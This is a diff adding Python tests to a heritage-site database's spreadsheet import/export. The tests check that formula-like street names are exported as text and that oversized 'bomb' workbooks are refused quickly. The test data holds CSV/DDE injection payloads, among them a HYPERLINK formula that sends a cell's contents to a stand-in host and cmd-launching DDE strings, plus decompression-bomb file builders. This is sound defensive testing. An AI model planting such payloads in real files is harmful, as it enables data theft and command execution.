@@ -3,6 +3,8 @@ per row and column in the editor's language, editors' units respected, plates un
 
 import csv
 import io
+import time
+import zipfile
 
 import openpyxl
 import pytest
@@ -179,6 +181,51 @@ def test_the_export_has_the_import_columns_and_imports_back_unchanged(reviewer_c
     assert sheet.max_row == Relic.objects.count() + 1
 
 
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://lua-dao.example/?d="&B2,"Xem ảnh")',
+    "=cmd|' /C calc'!A0",
+    "+84 912 345 678",
+    "-Tổ dân phố 5",  # a real name may start with a dash: it must come back as it was
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "'Ngõ' Chùa",
+    "-257",
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_names_that_look_like_formulas_are_exported_as_text_and_import_back_exactly(
+    reviewer_client, tam_thanh, fmt
+):
+    for number, name in enumerate(HOSTILE_NAMES):
+        Street.objects.create(external_id=f"f:{number}", name_vi=name, name_en=name, unit=tam_thanh)
+    exported = reviewer_client.get(reverse("admin:sites_street_export", args=[fmt]))
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
+        cells = [row[column] for row in rows for column in ("name_vi", "name_en")]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
+        header = [cell.value for cell in sheet[1]]
+        columns = [header.index("name_vi") + 1, header.index("name_en") + 1]
+        found = [
+            sheet.cell(row, column) for row in range(2, sheet.max_row + 1) for column in columns
+        ]
+        assert {cell.data_type for cell in found} == {"s"}  # text, never a formula ("f")
+        cells = [cell.value for cell in found]
+    assert len(cells) == 2 * len(HOSTILE_NAMES)
+    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-T")]
+
+    # Exported and imported back: nothing changed.
+    upload = SimpleUploadedFile(f"streets.{fmt}", exported.content)
+    report = reviewer_client.post(import_url(), {"file": upload}).context["report"]
+    assert report.ok and {row.action for row in report.rows} == {"skip"}
+    # And into an empty database: the very same names.
+    Street.objects.all().delete()
+    preview_and_confirm(reviewer_client, SimpleUploadedFile(f"streets.{fmt}", exported.content))
+    assert sorted(Street.objects.values_list("name_vi", flat=True)) == sorted(HOSTILE_NAMES)
+    assert sorted(Street.objects.values_list("name_en", flat=True)) == sorted(HOSTILE_NAMES)
+
+
 def test_the_sample_file_is_a_valid_import(reviewer_client):
     for model in ("street", "relic", "scenicspot", "person"):
         for fmt in ("csv", "xlsx"):
@@ -208,6 +255,145 @@ def test_an_unreadable_file_gets_a_clear_message(reviewer_client, name, content,
     assert response.status_code == 200
     assert message in response.content.decode()
     assert not Street.objects.exists()
+
+
+# --- files that cost more to read than they look ----------------------------------------------
+
+SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def workbook(rows: int = 0, dimension: str | None = None, strings: int = 1, text: str = "a"):
+    """A small .xlsx written by hand: `rows` rows of one shared-string cell after a header row,
+    the sheet's `dimension` as declared (or none), `strings` shared strings of `text`."""
+    main = f"{RELATIONSHIPS}/officeDocument"
+    parts = {
+        "[Content_Types].xml": (
+            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
+            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
+            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
+            'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+            'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
+            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
+            'sharedStrings+xml"/></Types>'
+        ),
+        "_rels/.rels": (
+            f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" '
+            f'Type="{main}" Target="xl/workbook.xml"/></Relationships>'
+        ),
+        "xl/workbook.xml": (
+            f'<workbook xmlns="{SPREADSHEET_NS}" xmlns:r="{RELATIONSHIPS}"><sheets>'
+            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
+        ),
+        "xl/_rels/workbook.xml.rels": (
+            f'<Relationships xmlns="{PACKAGE_RELS}">'
+            f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/worksheet" '
+            'Target="worksheets/sheet1.xml"/>'
+            f'<Relationship Id="rId2" Type="{RELATIONSHIPS}/sharedStrings" '
+            'Target="sharedStrings.xml"/></Relationships>'
+        ),
+        "xl/sharedStrings.xml": (
+            f'<sst xmlns="{SPREADSHEET_NS}">' + f"<si><t>{text}</t></si>" * strings + "</sst>"
+        ),
+        "xl/worksheets/sheet1.xml": (
+            f'<worksheet xmlns="{SPREADSHEET_NS}">'
+            + (f'<dimension ref="{dimension}"/>' if dimension else "")
+            + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>external_id</t></is></c>'
+            + '<c r="B1" t="inlineStr"><is><t>name_vi</t></is></c></row>'
+            + "".join(
+                f'<row r="{n}"><c r="B{n}" t="s"><v>0</v></c></row>' for n in range(2, rows + 2)
+            )
+            + "</sheetData></worksheet>"
+        ),
+    }
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, xml in parts.items():
+            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8"?>' + xml)
+    return buffer.getvalue()
+
+
+def refused_quickly(client, name: str, content: bytes, language: str = "vi") -> str:
+    """The import page's answer to `content`, which must come within a second of CPU time."""
+    if language == "en":
+        client.cookies["lang"] = "en"
+    started = time.process_time()
+    response = client.post(import_url(), {"file": SimpleUploadedFile(name, content)})
+    spent = time.process_time() - started
+    assert response.status_code == 200 and "pending" not in response.context
+    assert spent < 1.0, f"{spent:.1f} s of CPU to refuse it"
+    assert not Street.objects.exists()
+    return response.context["file_error"]
+
+
+BOMBS = {
+    # Two hundred thousand rows in 1 MB, declared in the sheet's dimension.
+    "declared": lambda: workbook(200_000, "A1:B200001"),
+    # The same rows under a dimension that lies, or none at all (openpyxl then reads the whole
+    # sheet to find none: that costs what the sheet's tags cost, at most MAX_XML_TAGS).
+    "lying": lambda: workbook(200_000, "A1:B2"),
+    "undeclared": lambda: workbook(20_000),
+}
+
+
+@pytest.mark.parametrize("bomb", BOMBS)
+@pytest.mark.parametrize(
+    ("language", "message"),
+    [
+        ("vi", "Trang tính có hơn 5000 dòng dưới dòng tiêu đề"),
+        ("en", "The sheet has more than 5000 rows below its header"),
+    ],
+)
+def test_a_sheet_of_too_many_rows_is_refused_before_it_is_read(
+    reviewer_client, bomb, language, message
+):
+    """287 KB holding 2 million rows cost 72 s of CPU and 663 MiB before the row limit refused
+    it (issue 13)."""
+    assert message in refused_quickly(reviewer_client, "bomb.xlsx", BOMBS[bomb](), language)
+
+
+def test_a_workbook_of_a_million_tiny_strings_is_refused_before_it_is_read(reviewer_client):
+    bomb = workbook(1, "A1:B2", strings=1_000_000)
+    assert len(bomb) < 50_000  # 17 MB of XML, 4 million tags
+    message = refused_quickly(reviewer_client, "strings.xlsx", bomb)
+    assert "Tệp bảng tính có nhiều ô hơn mức cho phép (5000 dòng, 50 cột)" in message
+
+
+def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(reviewer_client):
+    bomb = workbook(1, "A1:B2", text="a" * (60 << 20))
+    assert len(bomb) < 100_000
+    message = refused_quickly(reviewer_client, "huge.xlsx", bomb)
+    assert "Tệp bảng tính giải nén ra 60 MB; giới hạn là 50 MB" in message
+
+
+def test_a_csv_of_millions_of_short_lines_is_refused_as_it_is_read(reviewer_client):
+    lines = b"external_id,name_vi\n" + b"a\n" * ((imports.MAX_FILE_BYTES - 20) // 2)
+    message = refused_quickly(reviewer_client, "lines.csv", lines)
+    assert "Tệp có hơn 5000 dòng" in message
+
+
+def test_a_full_sheet_is_still_read(reviewer):
+    """The limits leave room for a whole file: MAX_ROWS rows in every column of the import."""
+    columns = list(imports.RelicResource().fields)
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(columns)
+    for number in range(imports.MAX_ROWS):
+        sheet.append([f"r:{number}", *(f"Văn bản {number} của cột {c}" for c in columns[1:])])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    dataset = imports.read_dataset(buffer.getvalue(), "relics.xlsx")
+    assert len(dataset) == imports.MAX_ROWS and dataset.headers == columns
+    assert dataset[-1][0] == f"r:{imports.MAX_ROWS - 1}"
+
+
+def test_a_column_name_past_the_limit_is_not_dropped_silently(reviewer_client):
+    header = [f"extra_{n}" for n in range(imports.MAX_COLUMNS)] + ["name_en"]
+    message = refused_quickly(reviewer_client, "wide.xlsx", xlsx_file([], header).read())
+    assert "Trang tính có hơn 50 cột" in message
 
 
 def test_a_forged_or_foreign_confirmation_is_refused(reviewer_client, editor_client):
